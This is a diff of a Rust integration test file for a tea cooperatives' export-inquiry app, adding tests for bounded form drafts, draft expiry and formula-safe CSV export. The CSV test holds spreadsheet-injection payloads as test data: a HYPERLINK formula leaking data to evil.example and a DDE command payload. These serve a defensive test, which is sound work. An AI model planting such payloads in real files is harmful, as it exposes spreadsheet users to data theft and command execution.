@@ -1,13 +1,14 @@
 //! Export inquiries against real SQLite and real PostgreSQL: what a buyer sends is checked and
 //! stored, bots and floods are turned away, each cooperative sees only its own leads, leads move
 //! only along the pipeline, new ones are pushed live, and the CSV export survives commas, quotes,
-//! newlines and Vietnamese.
+//! newlines and Vietnamese and never hands a spreadsheet a formula.
 mod common;
 
 use app::db::{Db, Sql};
-use app::error::AppError;
-use app::inquiries::model::{InquiryForm, LeadStatus};
-use app::inquiries::service::{self, Scope, Submitted};
+use app::drafts;
+use app::error::{AppError, FieldError};
+use app::inquiries::model::{InquiryForm, LeadStatus, MAX_MESSAGE, MAX_SHORT};
+use app::inquiries::service::{self, LeadRange, Scope, Submitted};
 use app::live::hub::Hub;
 use app::live::model::{Event, ServerFrame, Topic};
 use common::scalar;
@@ -239,6 +240,16 @@ async fn leads_move_only_along_the_pipeline(db: Db) {
     assert!(!replied.is_empty() && replied.iter().all(|l| l.status == LeadStatus::Replied));
 }
 
+/// The whole leads CSV of `scope`, as a download receives it.
+async fn leads_csv(db: &Db, scope: Scope) -> Vec<u8> {
+    let mut rx = service::csv(db.clone(), scope, LeadRange::default());
+    let mut all = Vec::new();
+    while let Some(chunk) = rx.recv().await {
+        all.extend_from_slice(&chunk);
+    }
+    all
+}
+
 async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
     app::seed::seed(&db).await.expect("seed");
     let hub = Hub::new();
@@ -247,7 +258,7 @@ async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
     f.message = "Dòng một, có dấu phẩy\nDòng hai: \"trích dẫn\"".into();
     stored(&db, &hub, &f, "10.1.1.1").await;
     stored(&db, &hub, &form("hong-phat", "Other coop's buyer"), "10.1.1.2").await;
-    let bytes = service::csv(&db, Scope::Cooperative(binh_minh)).await.expect("csv");
+    let bytes = leads_csv(&db, Scope::Cooperative(binh_minh)).await;
     assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "a byte-order mark for spreadsheet programs");
     let mut reader = csv::Reader::from_reader(&bytes[3..]);
     let headers = reader.headers().expect("headers").clone();
@@ -265,11 +276,98 @@ async fn the_csv_export_keeps_commas_quotes_newlines_and_vietnamese(db: Db) {
         text.contains("\"Công ty TNHH Chè \"\"Sạch\"\", Hà Nội\""),
         "quotes doubled inside a quoted cell"
     );
-    let all = service::csv(&db, Scope::Province).await.expect("csv");
+    let all = leads_csv(&db, Scope::Province).await;
     assert_eq!(csv::Reader::from_reader(&all[3..]).records().count(), 2, "the department gets every lead");
 }
 
+/// A buyer's text cannot become a formula in the cooperative's spreadsheet: the leads CSV
+/// neutralises every text cell that starts one, on the cooperative's and the department's file.
+async fn the_leads_csv_never_hands_a_spreadsheet_a_formula(db: Db) {
+    app::seed::seed(&db).await.expect("seed");
+    let hub = Hub::new();
+    let binh_minh = coop_id(&db, "binh-minh").await;
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Xem báo giá\")";
+    let mut f = form("binh-minh", hyperlink);
+    f.message = "-2+3+cmd|' /C calc'!A0".into();
+    f.packaging = "@SUM(A1:A9)".into();
+    stored(&db, &hub, &f, "10.1.1.1").await;
+    for scope in [Scope::Cooperative(binh_minh), Scope::Province] {
+        let bytes = leads_csv(&db, scope).await;
+        let mut reader = csv::Reader::from_reader(&bytes[3..]);
+        let headers = reader.headers().expect("headers").clone();
+        let row = reader.records().next().expect("one lead").expect("record");
+        let get = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect("cell");
+        assert_eq!(get("company"), format!("'{hyperlink}"));
+        assert_eq!(get("message"), "'-2+3+cmd|' /C calc'!A0");
+        assert_eq!(get("packaging"), "'@SUM(A1:A9)");
+        assert_eq!(get("quantity"), "2000", "our numbers stay numbers");
+        assert_eq!(get("country"), "United Kingdom");
+    }
+}
+
+/// The drafts of `ip`: how many, and their bodies' total length in bytes.
+async fn drafts_of(db: &Db, ip: &str) -> (i64, i64) {
+    let mut sql = Sql::new("SELECT COUNT(*), COALESCE(SUM(LENGTH(body)), 0) FROM form_drafts WHERE ip = ");
+    sql.bind(ip.to_owned());
+    sql.query_as().expect("query").fetch_one(&db.pool).await.expect("drafts")
+}
+
+/// One address refused forty times with 0.9 MB forms keeps a handful of small drafts, and
+/// another address still gets its own.
+async fn refused_inquiries_keep_bounded_drafts(db: Db) {
+    app::seed::seed(&db).await.expect("seed");
+    let mut huge = form("binh-minh", &"C".repeat(300_000));
+    huge.message = "Tôi muốn mua chè. ".repeat(600_000 / 20);
+    huge.packaging = "x".repeat(300_000);
+    assert!(serde_json::to_string(&huge).expect("json").len() > 900_000);
+    let errors = vec![FieldError::new("message", "too_long")];
+    let mut last = None;
+    for i in 0..40 {
+        last = drafts::save(&db, &huge, &errors, "203.0.113.7", NOW + i).await.expect("save");
+        assert!(last.is_some(), "the latest refusal always keeps its draft");
+    }
+    let (rows, bytes) = drafts_of(&db, "203.0.113.7").await;
+    assert_eq!(rows, drafts::PER_ADDRESS, "one address keeps at most its cap");
+    assert!(bytes <= drafts::PER_ADDRESS * 32 * 1024, "{bytes} bytes for one address");
+
+    let other = form("binh-minh", "Camden Tea");
+    let token = drafts::save(&db, &other, &errors, "198.51.100.9", NOW + 41).await.expect("save");
+    let token = token.expect("another address keeps its draft");
+    let page = service::page(&db, "binh-minh", "", Some(&token), NOW + 42).await.expect("page");
+    assert_eq!(page.form.company, "Camden Tea");
+    assert_eq!(page.errors, errors);
+    assert_eq!(drafts_of(&db, "198.51.100.9").await.0, 1);
+
+    // The latest huge one comes back cut to the fields' limits.
+    let last = last.expect("token");
+    let page = service::page(&db, "binh-minh", "", Some(&last), NOW + 42).await.expect("page");
+    assert_eq!(page.form.company.chars().count(), MAX_SHORT);
+    assert_eq!(page.form.packaging.chars().count(), MAX_SHORT);
+    assert_eq!(page.form.message.chars().count(), MAX_MESSAGE);
+    assert!(page.form.message.starts_with("Tôi muốn mua chè."));
+}
+
+/// Expired drafts are deleted by the purge, fresh ones kept.
+async fn the_purge_removes_expired_drafts(db: Db) {
+    let errors = vec![FieldError::new("message", "message_short")];
+    let f = form("binh-minh", "Camden Tea");
+    let old = drafts::save(&db, &f, &errors, "203.0.113.7", NOW - drafts::TTL_SECS - 1).await.expect("save");
+    let fresh = drafts::save(&db, &f, &errors, "203.0.113.8", NOW - 60).await.expect("save");
+    assert_eq!(drafts::purge_expired(&db, NOW).await.expect("purge"), 1);
+    assert_eq!(scalar::<i64>(&db, Sql::new("SELECT COUNT(*) FROM form_drafts")).await, 1);
+    let load = |token: Option<String>| {
+        let db = db.clone();
+        async move { drafts::load(&db, "inquiry", &token.expect("token"), NOW).await.expect("load") }
+    };
+    assert!(load(old).await.is_none());
+    assert!(load(fresh).await.is_some());
+    assert_eq!(drafts::purge_expired(&db, NOW).await.expect("purge"), 0);
+}
+
 on_both_databases!(
+    refused_inquiries_keep_bounded_drafts,
+    the_purge_removes_expired_drafts,
+    the_leads_csv_never_hands_a_spreadsheet_a_formula,
     an_inquiry_is_stored_pushed_live_and_seen_only_by_its_cooperative,
     bots_floods_and_bad_forms_are_turned_away,
     leads_move_only_along_the_pipeline,
